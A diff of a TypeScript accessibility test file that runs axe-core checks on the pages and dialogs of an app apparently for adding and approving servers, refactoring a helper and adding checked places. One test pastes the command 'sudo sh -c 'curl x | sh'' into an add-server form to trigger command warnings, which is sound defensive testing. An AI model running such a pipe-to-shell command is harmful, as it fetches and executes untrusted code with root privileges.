@@ -1,18 +1,8 @@
 /** Every page and overlay, checked by axe-core as far as a page without a layout can be. */
 import { screen } from "@testing-library/react";
-import axe from "axe-core";
 import { describe, expect, it } from "vitest";
 import { renderApp } from "./render-app";
-
-/** Needs colours and sizes; tokens.test.ts computes the contrast instead. */
-const OFF = { "color-contrast": { enabled: false }, "target-size": { enabled: false } };
-
-async function violations(): Promise<string[]> {
-  const found = await axe.run(document.body, { rules: OFF });
-  return found.violations.map(
-    (one) => `${one.id}: ${one.nodes.map((node) => node.target.join(" ")).join(", ")}`,
-  );
-}
+import { violations } from "./violations";
 
 /** A place in the window, what is done there first, and what says that it is drawn. */
 type Place = [name: string, at: string, ready: string, press?: string];
@@ -21,6 +11,8 @@ const PLACES: Place[] = [
   ["the list", "/servers", "server-row-everything"],
   ["the bar of what is chosen", "/servers?selected=git,memory", "bulk-bar"],
   ["the edit dialog", "/servers?edit=filesystem", "add-server-era", "add-server-advanced"],
+  ["the menu of a server", "/servers", "server-open-git", "server-menu-git"],
+  ["a choice of few", "/settings", "theme-select-dark", "theme-select"],
   ["the add dialog", "/servers?add=example", "add-server-command"],
   ["the approve dialog", "/servers?approve=sentry", "exact-command"],
   ["a server", "/servers/everything", "timeline"],
@@ -56,8 +48,10 @@ describe.each([
 
 it("the question of consent has no violation", async () => {
   const { user } = renderApp({ at: "/servers?add=new" });
-  await user.type(await screen.findByTestId("add-server-name"), "odd");
-  await user.type(screen.getByTestId("add-server-command"), "sudo sh -c 'curl x | sh'");
+  await user.click(await screen.findByTestId("add-server-name"));
+  await user.paste("odd");
+  await user.click(screen.getByTestId("add-server-command"));
+  await user.paste("sudo sh -c 'curl x | sh'");
   await user.click(screen.getByTestId("add-server-submit"));
   await screen.findByTestId("command-warnings");
   expect(await violations()).toEqual([]);
